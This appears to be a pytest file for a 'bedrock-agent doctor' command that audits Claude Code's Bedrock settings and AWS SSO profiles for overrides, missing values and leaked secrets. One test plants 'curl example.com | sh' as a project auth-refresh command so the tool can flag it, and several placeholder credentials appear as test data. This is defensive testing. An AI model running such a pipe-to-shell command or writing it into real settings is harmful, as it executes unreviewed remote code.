"""`bedrock-agent doctor` on Claude Code's settings and the profile: what overrides them, what is missing or wrong."""

import json

from doctor_cases import USUAL, both, case, cases, check
from patient import COMMAND, OPUS, ill, well
from waiting import eventually

MENDED = {"env": {"CLAUDE_CODE_USE_BEDROCK": "1", "AWS_PROFILE": "work-dev", "AWS_REGION": "us-west-2",
                  "ANTHROPIC_MODEL": OPUS}, "awsAuthRefresh": COMMAND}


# Settings


def settings(**changes):
    return lambda patient: patient.settings(**changes)


def unused(patient):
    patient.settings(remove=("CLAUDE_CODE_USE_BEDROCK",))


def setup_anew(patient):
    patient.bedrock_agent("setup", "--profile", "work-dev", "--region", "us-west-2", "--model", OPUS, "--yes")


def in_project(content, name="settings.json"):
    return lambda patient: patient.write(patient.project / ".claude" / name, content)


def nothing_in_project(patient):
    for file in (patient.project / ".claude").iterdir():
        patient.write(file, {})


def project_env(name="settings.json", **env):
    return in_project({"env": env}, name)


def export(**variables):
    return lambda patient: patient.environment.update(variables)


def at_home(patient):
    patient.project = patient.home.path
    patient.write(patient.home.path / ".claude" / "settings.local.json", {"env": {"AWS_PROFILE": "old-profile"}})


@cases(
    case("unguarded", "warning", unused, setup_anew, id="no-bedrock"),
    case("settings-empty", "warning", lambda p: p.write(p.settings_file, {}), setup_anew, besides={"unguarded"}),
    case("unguarded", "warning", export(AWS_BEARER_TOKEN_BEDROCK="secret"), id="bearer-exported"),
    case("unguarded", "warning", settings(AWS_BEARER_TOKEN_BEDROCK="secret"), settings(), id="bearer"),
    case("region-missing", "warning", settings(remove=("AWS_REGION",))),
    case("auth-refresh-missing", "warning", settings(remove=("awsAuthRefresh",))),
    case("command-unapproved", "warning", settings(top={"awsAuthRefresh": f"{COMMAND} --no-browser"})),
    case("auth-refresh-elsewhere", "failure",
         both(settings(top={"awsAuthRefresh": "aws sso login --sso-session unscoped"}),
              lambda p: p.bedrock_agent("approve", "--yes"))),
    case("settings-refused", "failure", settings(top={"awsAuthRefresh": ["aws"]}), settings(),
         id="command"),
    case("settings-env-not-string", "failure", lambda p: p.write(p.settings_file, {
        **MENDED, "env": {**MENDED["env"], "MAX_THINKING_TOKENS": None}}), settings()),
    case("settings-refused", "failure", lambda p: p.write(p.settings_file, {**MENDED, "env": []}), settings(),
         id="env"),
    case("api-key-helper", "warning", settings(top={"apiKeyHelper": "echo key"}), settings()),
    case("shadowed-by-project", "warning", project_env(AWS_PROFILE="old-profile"), nothing_in_project, id="profile"),
    case("shadowed-by-project", "warning", project_env("settings.local.json", AWS_REGION="eu-west-1"),
         nothing_in_project, id="region"),
    case("shadowed-by-project", "warning", project_env(CLAUDE_CODE_USE_BEDROCK="0"), nothing_in_project, id="bedrock"),
    case("shadowed-by-project", "warning", project_env(AWS_BEARER_TOKEN_BEDROCK="s3cret-token"), nothing_in_project,
         id="bearer"),
    case("shadowed-by-project", "warning", in_project({"awsAuthRefresh": "curl example.com | sh"}),
         nothing_in_project, id="command"),
    case("shadowed-by-project", "warning", at_home,
         lambda p: (p.home.path / ".claude" / "settings.local.json").write_text("{}"), id="at-home"),
    case("shadowed-by-managed", "warning",
         lambda p: p.write(p.managed / "managed-settings.json", {"env": {"ANTHROPIC_MODEL": f"{OPUS}[1m]"}}),
         settings(remove=("ANTHROPIC_MODEL",))),
    case("exported-differently", "warning", export(AWS_PROFILE="old-profile")),
    case("exported-differently", "warning", export(AWS_DEFAULT_PROFILE="old-profile"), id="boto3"),
    case("exported-differently", "warning", export(ANTHROPIC_MODEL="opus"), id="model"),
    case("access-keys-exported", "warning", export(AWS_ACCESS_KEY_ID="AKIA", AWS_SECRET_ACCESS_KEY="s3cret")))
def test_settings(patient, case):
    check(patient, case, "--offline")


def test_what_is_the_same_elsewhere_is_no_finding(patient):
    project_env(AWS_PROFILE="work-dev", OTHER="x")(patient)
    export(AWS_PROFILE="work-dev", AWS_REGION="us-west-2", AWS_DEFAULT_PROFILE="work-dev")(patient)
    assert not set(ill(patient.doctor("--offline"))) - USUAL


def test_secrets_in_settings_are_not_shown(patient):
    project_env(AWS_BEARER_TOKEN_BEDROCK="s3cret-token", AWS_ACCESS_KEY_ID="s3cret-key")(patient)
    export(AWS_SECRET_ACCESS_KEY="s3cret-exported", HTTPS_PROXY="http://me:s3cret-proxy@127.0.0.1:9")(patient)
    assert "s3cret" not in json.dumps(patient.doctor("--offline"))


def test_nor_are_those_in_a_command(patient):
    """The output of `doctor` and `status`, and the journal, are what people send to others."""
    patient.tool("sign-in", "exit 0")
    patient.settings(top={"awsAuthRefresh": "SSO_PASSWORD=s3cret-typed sign-in"})
    in_project({"awsAuthRefresh": "sign-in --token s3cret-project"})(patient)
    patient.start()
    assert "command-unapproved" in ill(patient.doctor("--offline"))
    patient.run("approve", "--yes")
    eventually(lambda: "resolved: awsAuthRefresh" in patient.journal(), "the daemon has heard of it")
    told = [json.dumps(patient.doctor("--offline"), ensure_ascii=False), patient.run("doctor", "--offline", check=False).stdout,
            patient.run("status", check=False).stdout]
    assert all("SSO_PASSWORD=[…] sign-in" in text for text in told) and "s3cret" not in "".join(told) + patient.journal()


def test_credential_export_is_told(patient):
    patient.settings(top={"awsCredentialExport": "cat credentials"})
    answer = patient.doctor("--offline")
    assert "credential-export" in well(answer)
    # From where such a command has its credentials nobody can tell.
    assert set(ill(answer)) - USUAL == {"unguarded"}


# The profile


def change(old, new):
    return lambda patient: patient.config(old, new)


def change_back(old, new):
    return change(new, old)


WORK = "[profile work-dev]\nsso_session = corp\n"


def config_case(code, result, old, new, besides=(), id=""):
    return case(code, result, change(old, new), change_back(old, new), besides, id)


@cases(
    config_case("no-such-profile", "failure", "[profile work-dev]", "[profile work-devel]", {"auth-refresh-missing"}),
    config_case("config-refused", "failure", WORK, WORK + "nonsense\n"),
    config_case("no-such-session", "failure", WORK, "[profile work-dev]\nsso_session = corq\n"),
    config_case("profile-incomplete", "failure", WORK + "sso_account_id = 123456789012\n", WORK),
    config_case("profile-contradicts-itself", "failure", WORK, WORK + "sso_region = eu-west-1\n"),
    config_case("bad-region", "failure", "sso_region = us-east-1\nsso_registration_scopes",
                "sso_region = us-east-1/\nsso_registration_scopes"),
    config_case("profile-loop", "failure", WORK, WORK + "role_arn = arn:aws:iam::1:role/R\nsource_profile = work-dev\n"),
    config_case("config-read-differently", "warning", WORK + "sso_account_id = 123456789012",
                WORK + "sso_account_id: 123456789012"),
    config_case("endpoint-wrong", "failure", WORK, WORK + "services = none\n"),
    config_case("unguarded", "warning", WORK, "[profile work-dev]\ncredential_process = true\n[profile x]\n"),
    case("scope-missing", "warning",
         both(settings(AWS_PROFILE="work-unscoped", top={"awsAuthRefresh": "aws sso login --profile work-unscoped"}),
              lambda p: p.bedrock_agent("approve", "--yes")),
         both(change("[sso-session unscoped]\n",
                     "[sso-session unscoped]\nsso_registration_scopes = sso:account:access\n"),
              lambda p: p.home.sign_in(p.raw, "unscoped")),
         besides={"sign-in-needed"}))
def test_profile(patient, case):
    if "endpoint" in case.code:
        for name in ("SSO_OIDC", "SSO", "BEDROCK"):
            patient.environment.pop(f"AWS_ENDPOINT_URL_{name}")
    check(patient, case, "--offline")


def test_a_chain_is_shown(patient):
    patient.settings(AWS_PROFILE="chained", top={"awsAuthRefresh": "aws sso login --sso-session corp"})
    patient.bedrock_agent("approve", "--yes")
    answer = patient.doctor("--offline")
    said = next(check["message"] for check in answer["checks"] if check["code"] == "profile")
    assert "chained → work-dev → corp" in said and "Dev" in said
    assert not set(ill(answer)) - USUAL
